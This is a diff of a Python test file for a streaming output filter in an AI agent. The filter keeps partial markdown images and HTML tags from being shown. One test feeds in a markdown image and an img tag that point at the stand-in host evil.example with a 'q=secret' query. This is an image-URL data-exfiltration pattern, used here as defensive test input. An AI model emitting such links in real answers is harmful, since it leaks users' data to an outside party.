@@ -4,6 +4,7 @@ from __future__ import annotations
 
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from tests.agents.rendering import loaded
 
 from pierian.agents.answering import harmless
 from pierian.agents.safe_stream import SafeStream
@@ -43,7 +44,13 @@ def test_lines_are_shown_when_they_are_complete() -> None:
 
 def test_half_a_picture_is_never_shown() -> None:
     safe, events = stream()
-    for piece in ("See ![x](http://", "evil.example/?q=secret", ") and more\n", "<img src=", "http://evil.example>\n"):
+    for piece in (
+        "See ![x](http://",
+        "evil.example/?q=secret",
+        ") and more\n",
+        "<img src=",
+        "http://evil.example>\n",
+    ):
         safe.emit(Token(1, piece, "answer"))
         assert "](" not in shown(events) and "<img" not in shown(events)
     assert shown(events) == "See x and more\n&lt;img src=`http://evil.example`>\n"
@@ -53,7 +60,11 @@ def test_a_block_of_code_streams_too() -> None:
     safe, events = stream()
     for piece in ("```py\n", "x = a[0](1)\n", "```\n"):
         safe.emit(Token(1, piece, "answer"))
-    assert [event.text for event in events if isinstance(event, Token)] == ["```py\n", "x = a[0](1)\n", "```\n"]
+    assert [event.text for event in events if isinstance(event, Token)] == [
+        "```py\n",
+        "x = a[0](1)\n",
+        "```\n",
+    ]
 
 
 def test_other_events_pass_and_a_voided_draft_begins_again() -> None:
@@ -80,10 +91,23 @@ def test_a_correction_does_not_carry_raw_text_past_the_wall() -> None:
     assert shown(events) == "See x\n2 + 2 = 4 apples\nend"
 
 
-@settings(max_examples=150)
+@settings(max_examples=80)
 @given(
     pieces=st.lists(
-        st.sampled_from(["![x](http://e.example)", "`", "```\n", "\n", "\n\n", "text ", "<b>", "[a]: b\n", "- ", "http://e.example"]),
+        st.sampled_from(
+            [
+                "![x](http://e.example)",
+                "`",
+                "```\n",
+                "\n",
+                "\n\n",
+                "text ",
+                "<b>",
+                "[a]: b\n",
+                "- ",
+                "http://e.example",
+            ]
+        ),
         max_size=12,
     )
 )
@@ -94,7 +118,7 @@ def test_what_is_shown_at_any_time_is_a_harmless_text(pieces: list[str]) -> None
         text += piece
         safe.emit(Token(1, piece, "answer"))
         now = shown(events)
-        assert harmless(now, ()) == now
+        assert loaded(now) == []
         assert now == "" or now.endswith("\n")
     whole = harmless(text, ())
     safe.finish(whole)
